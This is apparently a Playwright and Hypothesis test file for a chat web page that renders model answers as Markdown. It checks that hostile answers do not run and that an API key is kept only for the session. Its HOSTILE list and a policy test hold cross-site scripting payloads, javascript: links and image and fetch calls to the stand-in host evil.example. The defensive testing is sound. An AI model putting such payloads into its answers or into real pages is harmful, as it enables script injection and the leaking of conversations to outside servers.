"""The page against what models write, and its handling of keys, in Chromium."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import BrowserContext, Page, expect
from server.fake_chat import FakeChat
from server.page_steps import answers, ask, finished

HOSTILE = [
    "<script>document.title = 'run'</script>",
    "<img src=x onerror=\"document.title = 'run'\">",
    "<svg><script>document.title = 'run'</script></svg>",
    "<svg onload=\"document.title = 'run'\"></svg>",
    "<iframe srcdoc=\"<script>parent.document.title = 'run'</script>\"></iframe>",
    "<details open ontoggle=\"document.title = 'run'\">x</details>",
    "<style>* { display: none }</style>",
    "<form action=https://evil.example><input name=key autofocus onfocus=\"document.title = 'run'\"></form>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<a href=\"javascript:document.title = 'run'\">x</a>",
    "[x](javascript:document.title='run')",
    "[x](data:text/html,<script>document.title='run'</script>)",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="1](https://evil.example/"onerror="1)',
    "[x]: https://evil.example\n<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '`<img src=x>` **bold <img src=x onerror=alert(1)>** | a | <b onclick="x">',
    '<input type=text value="x"><button>x</button><textarea>',
    "- [ ] a task <input type=image src=https://evil.example/a.png>",
]
TAGS = (
    "a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr input li ol p pre strong table tbody td th thead tr ul"
)
ATTRIBUTES = "aria-label align checked class disabled href rel role start tabindex target type"

# Calls a function of markdown.js with a text and lists what should not be in the node that it returns.
INSPECT = """async ([name, text, tags, attributes]) => {
  const { [name]: render } = await import("/page/markdown.js");
  const problems = [];
  const wrong = (element) => problems.push(element.outerHTML);
  const box = document.createElement("div");
  box.append(render(text));
  document.body.append(box);
  for (const element of box.querySelectorAll("*")) {
    if (!tags.split(" ").includes(element.localName)) wrong(element);
    for (const { name } of element.attributes) {
      if (!attributes.split(" ").includes(name)) problems.push(`${name} in ${element.outerHTML}`);
    }
    const { localName, href, rel, type, disabled } = element;
    if (localName === "a" && href && !/^(https?|mailto):/.test(href)) wrong(element);
    if (localName === "a" && href && rel !== "noopener noreferrer") wrong(element);
    if (localName === "input" && (type !== "checkbox" || !disabled)) wrong(element);
  }
  box.remove();
  return problems;
}"""


def test_hostile_answers_do_not_run(page: Page, fake: FakeChat) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for text in HOSTILE:
        fake.say(text)
        ask(page, "Hello")
        finished(page)
        expect(page.locator(".figures")).to_have_count(len(fake.bodies))
    expect(page).to_have_title("Hello - mistral_portable")
    assert all(url.startswith(fake.url) for url in asked)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("function", ["markdown", "sanitised"])
def test_what_is_left_of_hostile_text(browser_page: Page, function: str, text: str) -> None:
    """Two walls: HTML in Markdown is text, and of HTML, if any gets through, the harmless tags are left."""
    assert browser_page.evaluate(INSPECT, [function, text, TAGS, ATTRIBUTES]) == []


@settings(max_examples=150)
@given(
    pieces=st.lists(
        st.sampled_from(
            [*HOSTILE, "\n", "\n\n", "- ", "| a |\n|---|\n| ", "```", "`", "**", "[", "](", ")", "<", ">", '"', "&#"]
        )
        | st.text(max_size=8),
        max_size=12,
    )
)
def test_nothing_hostile_comes_of_any_mixture(browser_page: Page, pieces: list[str]) -> None:
    for function in ("markdown", "sanitised"):
        assert browser_page.evaluate(INSPECT, [function, "".join(pieces), TAGS, ATTRIBUTES]) == []


@pytest.mark.parametrize("text", ["> " * 3000 + "deep", "> - " * 1500 + "deep"], ids=["quotations", "lists"])
def test_markdown_too_deep_for_the_stack_is_shown_as_it_is(page: Page, fake: FakeChat, text: str) -> None:
    fake.say(text)
    ask(page, "Nest them")
    expect(answers(page)).to_have_text(text)
    finished(page)
    page.reload()
    expect(answers(page)).to_have_text(text)


def test_markdown_is_rendered(page: Page, fake: FakeChat) -> None:
    fake.say(
        "# Title\n\n**bold** `code` [link](https://example.org)\n\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    )
    fake.say("```python\nprint('<b>')\n```\n\n<b>shown</b>")
    ask(page, "Markdown, please")
    text = answers(page)
    expect(text.locator("h1")).to_have_text("Title")
    expect(text.locator("strong")).to_have_text("bold")
    expect(text.get_by_role("link", name="link")).to_have_attribute("href", "https://example.org")
    expect(text.get_by_role("checkbox", name="done")).to_be_checked()
    expect(text.locator("td")).to_have_text(["1", "2"])
    finished(page)
    ask(page, "Code, please")
    expect(text.locator("pre")).to_have_text("print('<b>')\n")
    expect(text.last).to_contain_text("<b>shown</b>")


def test_an_image_is_a_link(page: Page, fake: FakeChat) -> None:
    """To load it would tell its server what was said."""
    fake.say('![a "picture"](https://evil.example/p.png?said=this)')
    ask(page, "Show me")
    link = answers(page).get_by_role("link", name='a "picture"')
    expect(link).to_have_attribute("href", "https://evil.example/p.png?said=this")
    expect(answers(page).locator("img")).to_have_count(0)


def test_the_policy_holds(context: BrowserContext, fake: FakeChat) -> None:
    """Scripts, styles and requests that got into the document all the same do not run."""
    page = context.new_page()
    page.goto(fake.url)
    expect(page.locator("#model")).to_have_text("tiny")
    violations = page.evaluate("""async () => {
      const found = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => found.push(effectiveDirective));
      const script = document.createElement("script");
      script.type = "text/javascript";
      try { script.textContent = "document.title = 'run'"; } catch (error) { found.push(error.name); }
      const style = document.createElement("style");
      style.textContent = "body { display: none }";
      const image = new Image();
      image.src = "https://evil.example/pixel.png";
      document.body.append(style, image);
      try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); } catch (error) { found.push(error.name); }
      try { await fetch("https://evil.example/"); } catch (error) { found.push(error.name); }
      await new Promise((resolve) => setTimeout(resolve, 200));
      return [document.title, getComputedStyle(document.body).display, found];
    }""")
    title, display, found = violations
    assert (title, display) == ("mistral_portable", "grid")
    assert {"style-src-elem", "img-src", "connect-src", "TypeError"} <= set(found)
    assert found.count("TypeError") == 3  # a script's text, HTML, and a request


def test_a_key_is_asked_for_and_kept_for_the_session_only(context: BrowserContext, fake: FakeChat) -> None:
    fake.key = "secret"
    page = context.new_page()
    page.goto(fake.url)
    dialog = page.get_by_role("dialog", name="API key")
    dialog.get_by_label("Key", exact=True).fill("wrong")
    page.keyboard.press("Enter")
    expect(dialog.get_by_role("alert")).to_have_text("The server does not know this key.")
    dialog.get_by_label("Key", exact=True).fill("secret")
    dialog.get_by_role("button", name="Continue").click()
    expect(page.locator("#model")).to_have_text("tiny")
    ask(page, "Hello")
    expect(answers(page)).to_have_text(["Hello."])
    finished(page)
    page.reload()
    expect(page.locator("#model")).to_have_text("tiny")
    expect(dialog).to_have_count(0)
    kept, stored = page.evaluate("[JSON.stringify(sessionStorage), JSON.stringify(localStorage)]")
    assert "secret" in kept
    assert "secret" not in stored


def test_without_a_key_the_refusal_is_shown(context: BrowserContext, fake: FakeChat) -> None:
    fake.key = "secret"
    page = context.new_page()
    page.goto(fake.url)
    dialog = page.get_by_role("dialog", name="API key")
    expect(dialog).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#notice")).to_contain_text("a key is missing")
    expect(dialog).to_have_count(0)
